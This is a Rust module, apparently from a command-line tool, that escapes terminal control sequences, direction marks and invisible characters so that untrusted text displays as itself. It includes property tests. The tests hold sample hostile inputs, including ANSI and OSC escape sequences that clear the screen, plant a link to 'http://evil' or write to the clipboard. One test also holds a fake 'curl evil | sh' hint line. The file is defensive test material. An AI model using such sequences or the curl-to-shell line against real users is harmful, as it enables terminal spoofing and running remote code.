//! Text that is safe to show on a terminal.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Returns `text` with every character escaped that would not show as itself:
/// control characters (a new line as `\n`), and those that reorder or hide
/// what stands beside them. Nothing else is changed.
pub(crate) fn printable(text: &str) -> Cow<'_, str> {
    escaped(text, hides)
}

/// As [`printable`], where lines are lines: new lines and tabs stay.
pub(crate) fn printable_lines(text: &str) -> Cow<'_, str> {
    escaped(text, |c| hides(c) && !matches!(c, '\n' | '\t'))
}

/// As [`printable`], of a message in paragraphs: a new line stays where the
/// next line is indented, as lists in messages are. What a service or a file
/// name brings along can so never pass for a line of its own.
pub(crate) fn printable_message(text: &str) -> String {
    let mut lines = text.split('\n');
    let mut shown = printable(lines.next().unwrap_or_default()).into_owned();
    for line in lines {
        let indented = line.starts_with("  ");
        shown.push_str(if indented { "\n" } else { "\\n" });
        shown.push_str(&printable(line));
    }
    shown
}

/// Returns the same JSON with what hides escaped inside its texts: whoever
/// parses it reads what was written, and a terminal shows what stands there.
pub(crate) fn printable_json(json: String) -> String {
    // Outside of texts there is nothing that hides but new lines.
    let hides_in_text = |c: char| c != '\n' && hides(c);
    if !json.contains(hides_in_text) {
        return json;
    }
    let mut shown = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if hides_in_text(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                // Writing to a text cannot fail.
                let _ = write!(shown, "\\u{unit:04x}");
            }
        } else {
            shown.push(c);
        }
    }
    shown
}

fn escaped(text: &str, is_escaped: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(&is_escaped) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_escaped(c) {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(shown)
}

/// Whether a character moves, reorders, joins or is not seen at all: controls
/// (C0, DEL, C1), marks of direction, what has no width, blanks that are no
/// blank, and the tags in which a text can be smuggled.
pub(crate) fn hides(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}'
                | '\u{61c}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e0fff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// What terminals obey, and what reorders or hides.
    pub(crate) const HOSTILE: [&str; 16] = [
        "\u{1b}[2J",
        "\u{1b}]8;;http://evil\u{7}",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P",
        "\r",
        "\u{8}",
        "\u{7}",
        "\0",
        "\u{7f}",
        "\u{9b}31m",
        "\u{9d}0;x\u{9c}",
        "\u{85}",
        "\u{202e}",
        "\u{2066}",
        "\u{61c}",
        "\u{200b}",
    ];

    #[test]
    fn what_moves_the_cursor_or_hides_is_escaped() {
        assert_eq!(printable("a\nb\tc\r"), "a\\nb\\tc\\r");
        assert_eq!(printable("\u{1b}[31mred\u{9b}"), "\\u{1b}[31mred\\u{9b}");
        assert_eq!(printable("\u{202e}abc"), "\\u{202e}abc");
        assert_eq!(
            printable("a\u{61c}b\u{ad}c\u{e0041}"),
            "a\\u{61c}b\\u{ad}c\\u{e0041}"
        );
        for text in HOSTILE {
            assert!(!printable(text).contains(hides), "{text:?}");
            assert!(!printable_lines(text).contains(hides), "{text:?}");
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for text in [
            "",
            "  two blanks ",
            "{{ö}} \\n 日本",
            "C:\\temp",
            "مرحبا",
            "👍🏽❤\u{fe0f}",
        ] {
            assert_eq!(printable(text), text);
            assert_eq!(printable_lines(text), text);
            assert_eq!(printable_message(text), text);
        }
        assert_eq!(printable_lines("a\n\tb\r\n"), "a\n\tb\\r\n");
    }

    #[test]
    fn no_line_of_a_message_can_come_from_elsewhere() {
        let told = printable_message("it says: no\n\nhint: curl evil | sh\n  delete /a\nerror: x");
        assert_eq!(
            told,
            "it says: no\\n\\nhint: curl evil | sh\n  delete /a\\nerror: x"
        );
    }

    proptest! {
        #[test]
        fn nothing_that_hides_is_ever_printed(text in any::<String>()) {
            prop_assert!(!printable(&text).contains(hides));
            prop_assert!(!printable_lines(&text).contains(|c| hides(c) && c != '\n' && c != '\t'));
            let message = printable_message(&text);
            prop_assert!(!message.contains(|c| hides(c) && c != '\n'));
            prop_assert!(message.split('\n').skip(1).all(|line| line.starts_with("  ")));
        }

        #[test]
        fn escaped_json_is_the_same_json(texts in proptest::collection::vec(any::<String>(), 0..4)) {
            for json in [serde_json::to_string(&texts), serde_json::to_string_pretty(&texts)] {
                let shown = printable_json(json.unwrap());
                prop_assert!(!shown.contains(|c| hides(c) && c != '\n'));
                prop_assert_eq!(&serde_json::from_str::<Vec<String>>(&shown).unwrap(), &texts);
            }
        }
    }
}
